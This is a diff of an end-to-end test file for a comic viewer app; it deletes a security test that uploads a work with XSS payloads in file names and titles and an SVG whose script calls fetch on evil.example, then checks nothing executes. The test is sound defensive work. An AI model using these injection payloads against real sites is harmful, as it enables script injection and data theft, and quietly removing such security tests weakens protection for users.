@@ -1,5 +1,4 @@
 import { expect, fillSignIn, type Page, test } from '@yomikura/testkit/e2e'
-import { zipWork } from '@yomikura/testkit/tiny-work'
 import { settledPage } from './viewer-page.ts'
 
 const view = (workno: string) => `/work/${workno}/view/001.png`
@@ -234,47 +233,4 @@ test.describe('with fingers', () => {
     await expect.poll(scale).toBe('1')
     expect(await shownPages(page)).toBe('1')
   })
-})
-
-test('names and drawings of a hostile work reach nothing', async ({
-  page,
-  stack,
-  shelf,
-  signIn,
-}) => {
-  const hostile = '<img src=x onerror=globalThis.reached=1>.png'
-  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="70" height="100"><script>globalThis.reached=2;fetch('https://evil.example/')</script><image href="https://evil.example/x.png"/></svg>`
-  const workno = 'RJ00900666'
-  const files = {
-    [hostile]: shelf.rtl.files.pages[0]!.png,
-    'b".onload=alert(1)..png': shelf.rtl.files.pages[1]!.png,
-    'drawing.svg': Buffer.from(svg),
-    'named-as.png': Buffer.from(svg),
-  }
-  await stack.storefront.publishWork(
-    { workno, name: { ja_JP: '<b onclick=1>罠</b>' }, direction: 'ltr', work_type: 'MNG' },
-    zipWork(files),
-  )
-  const strangers: string[] = []
-  page.on('request', (request) => {
-    if (request.url().includes('evil.example')) strangers.push(request.url())
-  })
-  page.on('dialog', (dialog) => {
-    strangers.push(dialog.message())
-    void dialog.dismiss()
-  })
-  await signIn({ owns: [workno] })
-  await page.goto(`/work/${workno}/tree`)
-  await expect(page.getByRole('heading', { name: '<b onclick=1>罠</b>' })).toBeVisible()
-  const row = page.getByRole('link', { name: hostile })
-  await row.click()
-  await expect(settledPage(page)).toBeVisible()
-  await expect(page.getByText('<b onclick=1>罠</b>')).toBeAttached()
-  await page.keyboard.press('End')
-  await expect(settledPage(page)).toBeVisible()
-  // Whatever the drawing's names would open directly is inert: no script, no stranger.
-  await page.goto(`/work/${workno}/view/${encodeURIComponent('drawing.svg')}`)
-  await expect(page.getByRole('heading', { name: 'ページが見つかりません' })).toBeVisible()
-  expect(strangers).toEqual([])
-  expect(await page.evaluate(() => (globalThis as { reached?: number }).reached)).toBeUndefined()
 })
